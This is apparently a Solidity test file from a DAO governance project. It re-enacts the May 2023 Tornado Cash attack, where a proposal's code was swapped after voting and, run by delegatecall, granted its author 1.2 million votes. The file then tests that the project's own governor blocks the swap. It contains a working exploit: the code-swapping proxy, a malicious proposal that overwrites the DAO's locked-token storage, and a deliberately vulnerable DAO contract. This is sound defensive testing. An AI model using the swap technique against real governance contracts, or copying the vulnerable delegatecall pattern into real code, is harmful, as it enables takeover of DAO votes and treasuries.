// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.35;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Address} from "@openzeppelin/contracts/utils/Address.sol";

import {IGoverned} from "../../src/interfaces/IGoverned.sol";
import {IOpenGovernor} from "../../src/interfaces/IOpenGovernor.sol";
import {ITreasury} from "../../src/interfaces/ITreasury.sol";
import {Motion} from "../SystemTest.t.sol";
import {AttackTest} from "./AttackTest.t.sol";

/// @dev The DAO that runs a proposal's code as its own. Locked tokens are votes.
contract DelegatingDao {
    mapping(address account => uint256) public locked;
    mapping(address code => uint256) private _votes;
    mapping(address voter => mapping(address code => bool)) private _hasVoted;

    IERC20 private immutable _token;

    error Refused();

    constructor(IERC20 token) {
        _token = token;
    }

    function lock(uint256 amount) external {
        assert(_token.transferFrom(msg.sender, address(this), amount));
        locked[msg.sender] += amount;
    }

    function unlock(uint256 amount) external {
        locked[msg.sender] -= amount;
        assert(_token.transfer(msg.sender, amount));
    }

    function vote(address code) external {
        if (_hasVoted[msg.sender][code]) revert Refused();
        _hasVoted[msg.sender][code] = true;
        _votes[code] += locked[msg.sender];
    }

    function execute(address code) external {
        if (_votes[code] < 100_000e18) revert Refused();
        Address.functionDelegateCall(code, abi.encodeCall(IProposal.executeProposal, ()));
    }
}

interface IProposal {
    function executeProposal() external;
}

/// @dev What voters read.
contract HarmlessProposal is IProposal {
    uint256 public penalised;

    function executeProposal() external override {
        penalised = 0;
    }
}

/// @dev What was there when it was executed: the first slot of the DAO is the mapping of locked tokens.
contract MaliciousProposal is IProposal {
    mapping(address account => uint256) private _locked;
    address private immutable _attacker;
    ITreasury private immutable _treasury;

    constructor(address attacker, ITreasury treasury) {
        (_attacker, _treasury) = (attacker, treasury);
    }

    function executeProposal() external override {
        _locked[_attacker] = 1_200_000e18;
    }

    function spend() external {
        _treasury.spend(_attacker, 1, ITreasury.Category.Grants, "");
    }
}

/// @dev Code that its author can exchange. The original destroyed and created itself anew at the same address, which EIP-6780
/// ended; a proxy that asks another contract for its code does the same.
contract Metamorph {
    address public code;

    constructor(address code_) {
        code = code_;
    }

    function change(address code_) external {
        code = code_;
    }
}

contract LookAlike {
    Metamorph private immutable _author;

    constructor(Metamorph author) {
        _author = author;
    }

    fallback() external {
        Address.functionDelegateCall(_author.code(), msg.data);
    }
}

/// @notice Tornado Cash, May 2023: the code of a proposal was exchanged after the vote, ran as the DAO, and gave its author 1.2
/// million votes.
contract TornadoCash2023Test is AttackTest {
    Metamorph private author;
    LookAlike private proposal;
    MaliciousProposal private malicious;

    function setUp() public override {
        super.setUp();
        author = new Metamorph(address(new HarmlessProposal()));
        proposal = new LookAlike(author);
        malicious = new MaliciousProposal(attacker, treasury);
    }

    function test_controlExchangedCodeGivesItsAuthorTheVotes() public {
        DelegatingDao cash = new DelegatingDao(token);
        _give(alice, 500_000e18);
        vm.startPrank(alice);
        token.approve(address(cash), 500_000e18);
        cash.lock(500_000e18);
        cash.vote(address(proposal));
        vm.stopPrank();
        author.change(address(malicious));
        cash.execute(address(proposal));
        assertEq(cash.locked(attacker), 1_200_000e18);
        vm.prank(attacker);
        cash.unlock(500_000e18);
        assertEq(token.balanceOf(attacker), 500_000e18);
    }

    /// @dev It runs, in its own storage.
    function test_oursExchangedCodeWritesNothingButItsOwnStorage() public {
        Motion memory motion = _passed(abi.encodeCall(IProposal.executeProposal, ()));
        vm.record();
        _execute(motion);
        (, bytes32[] memory written) = vm.accesses(address(proposal));
        assertEq(written.length, 1);
        assertEq(vm.load(address(proposal), written[0]), bytes32(uint256(1_200_000e18)));
        assertEq(vm.load(address(timelock), written[0]), bytes32(0));
        assertEq(votes.getVotes(attacker), 0);
    }

    function test_oursExchangedCodeIsNotTheTimelock() public {
        Motion memory motion = _passed(abi.encodeCall(MaliciousProposal.spend, ()));
        vm.expectRevert(abi.encodeWithSelector(IGoverned.OnlyTimelock.selector, proposal));
        _execute(motion);
        _assertUntouched();
    }

    function _passed(bytes memory data) private returns (Motion memory motion) {
        _settled(alice, 50_000_000e18);
        motion = _untilExecution(alice, _motion(address(proposal), data, "As last time"));
        author.change(address(malicious));
    }

    /// @dev Where the code at the address itself is exchanged, as it was, the proposal is dead before its first call.
    function test_oursExchangedCodeAtTheAddressItselfIsNotCalled() public {
        HarmlessProposal harmless = new HarmlessProposal();
        _settled(alice, 50_000_000e18);
        Motion memory motion = _untilExecution(
            alice, _motion(address(harmless), abi.encodeCall(IProposal.executeProposal, ()), "As last time")
        );
        vm.etch(address(harmless), address(malicious).code);
        vm.expectRevert(abi.encodeWithSelector(IOpenGovernor.TargetCodeChanged.selector, motion.id));
        _execute(motion);
    }
}
